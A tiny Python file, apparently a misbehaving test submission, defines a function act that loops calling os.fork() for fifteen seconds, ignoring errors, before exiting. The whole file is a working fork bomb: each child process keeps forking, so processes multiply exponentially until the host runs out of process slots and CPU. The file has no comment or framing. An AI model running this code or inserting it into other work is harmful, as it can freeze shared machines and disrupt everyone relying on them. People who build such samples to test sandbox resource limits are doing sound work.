import os
import time

ENDS = time.time() + 15


def act(wrong):
    while time.time() < ENDS:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)
